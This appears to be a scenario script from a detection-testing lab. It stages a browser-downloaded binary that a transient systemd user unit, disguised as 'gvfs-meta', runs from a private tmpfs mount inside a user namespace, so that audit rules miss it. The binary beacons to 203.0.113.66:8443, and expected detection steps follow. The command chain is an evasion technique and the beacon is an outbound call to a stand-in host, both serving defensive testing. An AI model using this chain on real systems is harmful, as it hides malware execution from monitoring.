# Where it is run from is a mount of its own, which no audit rule watches.
title="Browser download started by a transient user unit from a private mount"
what="Chromium saves app.run; marek starts a transient user unit that makes a user and mount namespace, copies the file to a tmpfs there and runs it. It connects to 203.0.113.66:8443."
host=ws3.example.org user=marek daemons="cron sshd"
people="hanna tobi ines marek jule"
aliases='postmaster: root\nroot: marek\norders: ines\noffice: hanna, jule\nabuse: root\n'

setup() { cc -O1 -o "$base/out/www/app.bin" "$lab/lib/stand-ins/beacon.c"; }
act() {
  user_manager marek
  small_talk 1
  display_up
  chromium_as marek https://files.example.net/app.bin
  wait_file /home/marek/Downloads/app.bin 40; sleep 1; desktop_close
  ssh_as marek <<'L'
chmod 755 Downloads/app.bin
systemd-run --user --unit=gvfs-meta unshare -rm sh -c 'mount -t tmpfs none /mnt; cp /home/marek/Downloads/app.bin /mnt/x; /mnt/x 203.0.113.66 8443'
%sleep 2
L
  user_managers_down
}
truth() {
  file_step save 'chromium.* (rename|link) .*CREATE /home/marek/Downloads/app.bin$' 'the browser saves it'
  exec_step copy 'cp /home/marek/Downloads/app.bin /mnt/x' 'it is copied into the mount'
  exec_step execute 'x /mnt/x 203.0.113.66 8443' 'and run there'
  net_step beacon 'x 203.0.113.66:8443' 'it connects'
}
